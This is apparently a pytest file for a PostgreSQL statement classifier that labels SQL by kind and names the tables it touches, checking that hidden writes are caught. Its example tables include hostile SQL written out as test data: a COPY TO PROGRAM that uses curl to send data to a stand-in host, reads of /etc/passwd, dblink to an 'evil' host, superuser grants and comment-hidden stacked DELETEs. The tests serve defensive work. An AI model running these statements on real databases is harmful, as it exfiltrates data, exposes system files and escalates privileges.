"""What a text of SQL does: a table of examples, hostile ones among them."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lapse.domain.errors import Refused
from lapse.domain.guards import StatementClass
from lapse.protocols.postgres.statements import judged

CLASSES = """
read                        | SELECT 1
read                        | VALUES (1), (2)
read                        | TABLE shop.orders
read                        |
read                        | -- nothing but a comment
read                        | SHOW search_path
read                        | EXPLAIN SELECT 1
read                        | FETCH ALL FROM c
read                        | DECLARE c CURSOR FOR SELECT 1
read                        | EXECUTE prepared(1)
insert                      | INSERT INTO t VALUES (1)
insert read                 | INSERT INTO t SELECT * FROM u
insert read                 | INSERT INTO t VALUES ((SELECT 1))
insert update               | INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2
insert                      | INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING
update                      | UPDATE t SET a = 1 WHERE b = 2
delete                      | DELETE FROM t WHERE a = 1
delete                      | TRUNCATE t
delete insert read          | MERGE INTO t USING u ON a WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)
delete read                 | WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone
read update                 | SELECT * FROM t FOR UPDATE
read define                 | SELECT * INTO copy FROM t
read define                 | CREATE TABLE copy AS SELECT * FROM t
read define                 | CREATE VIEW v AS SELECT * FROM t
read define                 | CREATE MATERIALIZED VIEW v AS SELECT * FROM t
define                      | CREATE INDEX CONCURRENTLY ON t (a)
define                      | ALTER TABLE t ADD COLUMN a int
define privilege            | ALTER TABLE t OWNER TO mallory
define                      | DROP TABLE IF EXISTS t CASCADE
define                      | CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t'
define                      | COMMENT ON TABLE t IS 'x'
privilege                   | GRANT SELECT ON t TO PUBLIC
privilege                   | REVOKE ALL ON t FROM PUBLIC
privilege                   | GRANT admin TO mallory
privilege                   | ALTER ROLE mallory SUPERUSER
privilege                   | REASSIGN OWNED BY a TO b
privilege setting           | SET ROLE postgres
privilege setting           | RESET ROLE
privilege setting           | SET SESSION AUTHORIZATION postgres
privilege setting           | ALTER SYSTEM SET fsync = off
copy_in                     | COPY t FROM STDIN
copy_out                    | COPY t TO STDOUT
copy_out read               | COPY (SELECT * FROM t) TO STDOUT
copy_out other              | COPY t TO PROGRAM 'curl -T- evil.example'
copy_in other               | COPY t FROM '/etc/passwd'
call                        | CALL p()
call                        | DO $$ BEGIN DELETE FROM t; END $$
transaction                 | BEGIN
transaction                 | COMMIT
transaction                 | ROLLBACK TO SAVEPOINT a
transaction                 | SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
transaction                 | PREPARE TRANSACTION 'x'
setting                     | SET work_mem = '1GB'
setting                     | RESET ALL
setting                     | DISCARD ALL
read setting                | SELECT set_config('work_mem', '1GB', false)
maintenance                 | VACUUM t
maintenance                 | ANALYZE
maintenance                 | REFRESH MATERIALIZED VIEW v
maintenance                 | LOCK TABLE t
maintenance read            | SELECT pg_terminate_backend(1)
other                       | LISTEN a
other                       | NOTIFY a
other                       | LOAD 'x.so'
read update                 | SELECT nextval('s')
call read                   | SELECT * FROM dblink('host=evil', 'DELETE FROM t') AS x(a int)
insert other read           | SELECT lo_import('/etc/passwd')
other read                  | SELECT pg_read_file('/etc/passwd')
read update                 | EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE b = 2
delete                      | PREPARE p AS DELETE FROM t WHERE a = $1
read delete                 | SELECT 1; DELETE FROM t WHERE a = 1
read delete                 | SELECT 1 /* ; */ ; /* /* nested */ */ DELETE FROM t WHERE a = 1
read                        | SELECT '; DELETE FROM t' -- ; DROP TABLE t
read                        | SELECT $a$ '; DELETE FROM t; $a$
read                        | SELECT E'\\'; DELETE FROM t; --'
read maintenance            | SELECT U&"pg_terminate\\005fbackend"(1)
read maintenance            | SELECT "pg_catalog" . "pg_terminate_backend"(1)
read delete                 | SELECT * FROM (SELECT 1) a WHERE EXISTS (WITH x AS (SELECT 1) SELECT 1); TRUNCATE t
"""

TABLES = """
shop.orders                 | SELECT * FROM shop.orders
orders                      | SELECT * FROM orders
shop.orders                 | SELECT * FROM "shop"."orders" o JOIN LATERAL (SELECT 1) x ON true
shop.Orders                 | SELECT * FROM shop."Orders"
shop.orders                 | SELECT * FROM SHOP.ORDERS
secrets                     | SELECT * FROM U&"s\\0065crets"
a b c                       | SELECT * FROM a, (SELECT * FROM b WHERE EXISTS (SELECT 1 FROM c)) x
t                           | WITH x AS (SELECT * FROM t) SELECT * FROM x
x                           | WITH x AS (SELECT * FROM x) SELECT * FROM x
                            | WITH RECURSIVE x AS (SELECT 1 UNION SELECT * FROM x) SELECT * FROM x
y                           | WITH x AS (SELECT * FROM y), y AS (SELECT 1) SELECT * FROM x, y
secrets                     | SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) x, secrets
secrets                     | WITH secrets AS (SELECT 1) SELECT * FROM secrets; SELECT * FROM secrets
secrets                     | WITH secrets AS (SELECT 1) DELETE FROM secrets WHERE a = 1
secrets                     | WITH secrets AS (SELECT 1) INSERT INTO secrets SELECT * FROM secrets
a b                         | SELECT 1 FROM a UNION ALL SELECT 1 FROM b
a                           | WITH x AS (SELECT 1) SELECT 1 FROM x UNION ALL SELECT 1 FROM a
a b                         | INSERT INTO a SELECT * FROM b
a b                         | UPDATE a SET x = 1 FROM b WHERE a.i = b.i
a b                         | DELETE FROM a USING b WHERE a.i = b.i
a b                         | MERGE INTO a USING b ON true WHEN MATCHED THEN DELETE
a                           | COPY a TO STDOUT
a                           | COPY (SELECT * FROM a) TO STDOUT
a                           | PREPARE p AS SELECT * FROM a
a                           | DECLARE c CURSOR FOR SELECT * FROM a
a                           | EXPLAIN ANALYZE SELECT * FROM a
a s.b                       | DROP TABLE a, s.b
a                           | TRUNCATE ONLY a
a                           | LOCK a
a                           | ALTER TABLE a ADD b int
a                           | CREATE INDEX ON a (b)
a v                         | CREATE VIEW v AS SELECT * FROM a
a b                         | CREATE TABLE a AS TABLE b
a b                         | SELECT * INTO a FROM b
a b                         | CREATE TABLE a (x int REFERENCES b)
a                           | GRANT SELECT ON a TO PUBLIC
a                           | VACUUM a
a                           | SELECT * FROM a FOR UPDATE OF a
a                           | SELECT * FROM a TABLESAMPLE SYSTEM (1)
"""


def rows(text):
    return list(each_row(text))


def each_row(text):
    for line in text.strip().splitlines():
        expected, _, sql = line.partition("|")
        yield pytest.param(frozenset(expected.split()), sql.strip().replace("\\\\", "\\"), id=sql.strip()[:60] or "-")


@pytest.mark.parametrize(("classes", "sql"), rows(CLASSES))
def test_the_classes_of_a_text_are_those_of_all_that_is_in_it(classes, sql):
    assert judged(sql).classes == {StatementClass(one) for one in classes}


@pytest.mark.parametrize(("tables", "sql"), rows(TABLES))
def test_tables_are_named_as_written_and_names_of_with_are_none_where_they_are_in_scope(tables, sql):
    assert {str(table) for table in judged(sql).tables} == tables


@pytest.mark.parametrize(
    ("sql", "everywhere"),
    [
        ("UPDATE t SET a = 1", True),
        ("UPDATE t SET a = 1 WHERE b = 1", False),
        ("DELETE FROM t", True),
        ("DELETE FROM t WHERE true", True),
        ("DELETE FROM t WHERE 1 = 1", True),
        ("DELETE FROM t WHERE CURRENT OF c", False),
        ("WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x WHERE a = 1", True),
        ("TRUNCATE t", True),
        ("EXPLAIN ANALYZE DELETE FROM t", True),
        ("PREPARE p AS DELETE FROM t", True),
        ("SELECT 1; DELETE FROM t", True),
        ("SELECT 1", False),
    ],
)
def test_changes_of_every_row_are_seen_wherever_they_are(sql, everywhere):
    assert judged(sql).everywhere is everywhere


@pytest.mark.parametrize(
    "sql",
    [
        "SELEKT 1",
        "SELECT 1; SELEKT 2",
        "SELECT 'open",
        "SELECT /* open",
        "\\d t",
        "SELECT 1 \0",
        "SELECT a" + "||a" * 200_000,
        "SELECT " + "(" * 100_000,
        "SELECT a" + "::b" * 100_000,
        "select from a" + " natural join a" * 40_000,
        "SELECT " + "- " * 1_000_000 + "1",
    ],
    ids=lambda sql: sql[:30],
)
def test_what_cannot_be_parsed_is_refused_however_it_is_built(sql):
    with pytest.raises(Refused):
        judged(sql)


def test_long_texts_that_are_flat_are_judged():
    values = ", ".join(f"({number}, 'text', NULL, now())" for number in range(5_000))
    assert judged(f"INSERT INTO shop.orders VALUES {values}").classes == {StatementClass.INSERT}
    assert judged("SELECT " + " || ".join(["a"] * 300)).classes == {StatementClass.READ}


@given(st.text(max_size=200))
def test_any_text_is_judged_or_refused(text):
    try:
        found = judged(text)
    except Refused:
        return
    assert found.classes


WRITES = ["DELETE FROM t", "UPDATE t SET a = 1", "INSERT INTO t VALUES (1)", "TRUNCATE t", "DROP TABLE t"]
COMMENTS = st.sampled_from(["", " ", "\n", "/* ; SELECT */", "-- x\n", "/*/**/*/"])


@given(
    st.lists(st.sampled_from(["SELECT 1", "SELECT ';'", "SELECT $$;--$$"]), max_size=3),
    st.sampled_from(WRITES),
    COMMENTS,
)
def test_no_comment_quote_or_neighbour_hides_a_write(before, write, comment):
    text = f"{comment};{comment}".join([*before, write, *before])
    assert judged(write).classes <= judged(text).classes
    assert {str(table) for table in judged(text).tables} == {"t"}


@given(
    st.sampled_from(WRITES[:3]),
    st.sampled_from(["WITH x AS ({} RETURNING 1) SELECT 1", "EXPLAIN {}", "PREPARE p AS {}"]),
)
def test_no_nesting_hides_a_write(write, around):
    assert judged(write).classes <= judged(around.format(write)).classes
